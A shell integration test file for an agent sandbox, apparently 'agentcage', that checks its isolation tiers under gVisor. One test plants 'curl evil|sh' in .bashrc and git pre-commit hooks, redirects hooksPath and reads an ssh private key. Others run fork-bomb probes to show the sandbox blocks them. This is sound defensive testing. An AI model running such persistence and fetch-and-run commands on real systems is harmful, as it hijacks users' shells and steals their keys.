# Tiers under gVisor (issue 25): io.agentcage.kernel=gvisor or the
# operator's kernel-for-tier puts gVisor's user-space kernel (runsc) between
# the workload and the host's, with agentcage's cage on top. The tier attack
# tests that apply run again with every tiered attack under gVisor.

source "$IT_DIR/tiers_lib.sh"

# gVisor's gofer opens the container's files on the host as the
# container's root (an unprivileged id): the test's folder (state root,
# bundles, bind sources) must be reachable by others, as /run/agentcage is
gv_setup() { chmod 711 "$T"; }

# the attack tests of tiers_attacks.sh, sourced when a test runs (sourced
# here, the runner would list them twice)
gv_attacks() { gv_setup; source "$IT_DIR/tests/tiers_attacks.sh"; ATTACK_KERNEL=gvisor; }

test_gvisor_kernel_serves_the_syscalls() {
    gv_setup
    # uname(2) and the kernel log: the host's answer without gVisor, gVisor's with it
    attack 1 /bin/sh -c 'uname -r; dmesg 2>&1 | head -1'
    assert_eq "$RC" 0 "namespace tier: $OUT"
    assert_contains "$OUT" "$(uname -r)" "the host kernel answers at a namespace tier"
    assert_not_contains "$OUT" gVisor "namespace tier"
    local t
    for t in 0 1 2 3; do
        ATTACK_KERNEL=gvisor attack $t /bin/sh -c 'uname -r; dmesg | head -1; cat /proc/version'
        assert_eq "$RC" 0 "tier $t under gVisor: $OUT"
        assert_contains "$OUT" "Starting gVisor" "tier $t: gVisor's kernel log"
        assert_not_contains "$OUT" "$(uname -r)" "tier $t: the host's kernel release"
    done
    grep -q '"event":"container-created"' "$T/state/audit.jsonl" || fail "no container-created in the audit trail"
}

# ---------------------------------------------------------------- the tier attacks under gVisor

# the root fs, a tier-0 project mount, credentials under a mounted home,
# rc files and git hooks of a writable one: as at the namespace tiers
test_gvisor_write_root_fs() { gv_attacks; test_write_root_fs; }
# runsc cannot idmap a bind mount: a project is written by the container's
# root as its host id (an unprivileged one of the slice), where the
# folder's mode lets that id write; never as host root
test_gvisor_project_mounts() {
    gv_attacks
    mkdir -p "$T/proj" && echo original > "$T/proj/file" && chmod 777 "$T/proj" && chmod 666 "$T/proj/file"
    ATTACK_CFG=("$(bind_mount /mnt/a "$T/proj" rw)")
    attack plain /bin/sh -c 'echo evil > /mnt/a/file; /bin/probe write /mnt/a/new'
    assert_eq "$(cat "$T/proj/file")" evil "plain writes through a rw bind"
    echo original > "$T/proj/file"; rm -f "$T/proj/new"
    attack 0 /bin/sh -c 'echo evil > /mnt/a/file; /bin/probe write /mnt/a/new; /bin/probe mkdir /mnt/a/d; rm -f /mnt/a/file; echo done'
    assert_contains "$OUT" done "tier 0 ran: $OUT"
    assert_eq "$(cat "$T/proj/file")" original "tier 0: host file unchanged"
    [ -e "$T/proj/new" ] || [ -e "$T/proj/d" ] && fail "tier 0 created a file on the host"
    attack 1 /bin/probe write /mnt/a/new
    assert_eq "$OUT" ok "tier 1 writes its project mount"
    local owner; owner="$(stat -c %u "$T/proj/new")"
    [ "$owner" -ge 1000000000 ] || fail "tier 1 under gVisor wrote as host uid $owner, not the container's slice"
    # a folder only host root may write stays unwritten
    chmod 755 "$T/proj"; rm -f "$T/proj/new"
    attack 1 /bin/probe write /mnt/a/new
    assert_eq "$OUT" EACCES "tier 1 writes a folder of host root's"
    return 0
}

# rc files and git hooks of a writable home stay read-only, even where the
# folders' modes would let the container's id write them
test_gvisor_rc_files_and_git_hooks() {
    gv_attacks
    plant_home "$T/home"
    chmod -R a+rwX "$T/home"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" rw)")
    local script='
        echo "curl evil|sh" >> /home/agent/.bashrc
        echo "curl evil|sh" > /home/agent/.git/hooks/pre-commit
        echo "[core] hooksPath=/tmp" >> /home/agent/.git/config
        echo "curl evil|sh" > /home/agent/proj/.git/hooks/pre-commit
        cat /home/agent/.ssh/id_rsa
        echo end'
    attack plain /bin/sh -c "$script"
    assert_contains "$(cat "$T/home/.bashrc")" evil "plain writes .bashrc"
    rm -rf "$T/home"; plant_home "$T/home"; chmod -R a+rwX "$T/home"
    local before; before="$(tree_sum "$T/home")"
    local t
    for t in 1 3; do
        attack $t /bin/sh -c "$script"
        assert_contains "$OUT" end "tier $t ran: $OUT"
        assert_not_contains "$OUT" FAKE-PRIVATE-KEY "tier $t read the ssh key"
        assert_eq "$(tree_sum "$T/home")" "$before" "tier $t changed the home on the host"
        attack $t /bin/probe write /home/agent/proj/notes.txt
        assert_eq "$OUT" ok "tier $t writes an ordinary file in a folder of the home"
        rm -f "$T/home/proj/notes.txt"
    done
    return 0
}
test_gvisor_ssh_key_in_bind_mounted_home() { gv_attacks; test_ssh_key_in_bind_mounted_home; }
# no network at tiers 0-1, only the proxy at 2-3: the host's loopback is
# never reached, and the proxy refuses it as a destination
test_gvisor_host_loopback_tcp_udp() { gv_attacks; test_host_loopback_tcp_udp; }
test_gvisor_tier2_proxy_refuses_host_loopback() { gv_attacks; test_tier2_proxy_refuses_host_loopback; }
# the host's /proc/sys and /sys are not the container's to write
test_gvisor_proc_sys_and_sys_writes() { gv_attacks; test_proc_sys_and_sys_writes; }
# limits on the whole sandbox; the watchdog's timeout
# gVisor counts the workload's processes in its own kernel, which has no
# pids limit of its own; the host's cgroup limit holds for the sandbox, and
# a fork loop that reaches it ends the sandbox (its kernel cannot make a
# thread), never more host tasks
test_gvisor_fork_loop() {
    gv_attacks
    attack plain /bin/probe fork-bomb 150
    assert_eq "$OUT" "forked 150" "plain forks"
    local t
    for t in 1 3; do
        attack $t /bin/sh -c '/bin/probe fork-bomb 150; echo end'
        assert_not_contains "$OUT" "forked 150" "tier $t under gVisor forked 150"
        [ -e "$ROOT/$CID" ] && fail "tier $t: state left"
    done
    # a loop that stays below the limit runs, with its workload's processes
    attack 1 /bin/probe fork-bomb 20
    assert_eq "$OUT" "forked 20" "tier 1 under gVisor: 20 processes"
    return 0
}
test_gvisor_memory_balloon() { gv_attacks; test_memory_balloon; }
test_gvisor_timeout_kills() { gv_attacks; test_timeout_kills; }
# the environment's allow-list; tier 3's approval gate
test_gvisor_secret_env_scrubbed() { gv_attacks; test_secret_env_scrubbed; }
test_gvisor_tier3_needs_approval() {
    gv_setup
    CID="$(new_id)"
    make_bundle "$CID" /bin/sh -c 'echo approved-run; dmesg | head -1'
    cfg '.annotations = {"io.agentcage.tier": "3", "io.agentcage.kernel": "gvisor"}'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 1 "tier 3 under gVisor without approval"
    assert_contains "$OUT" "no approval" "tier 3 refusal"
    assert_not_contains "$OUT" approved-run "ran without approval"
    [ -e "$ROOT/$CID" ] && fail "state left after refused approval"
    ok trt approve "$CID"
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 0 "tier 3 under gVisor with approval: $OUT"
    assert_contains "$OUT" approved-run "tier 3 with approval"
    assert_contains "$OUT" "Starting gVisor" "tier 3 ran under gVisor"
    assert_contains "$(cat "$T/state/audit.jsonl")" approval-used "audited"
    # the grant was used: the same config needs a new one
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 1 "a second run on the same grant"
}
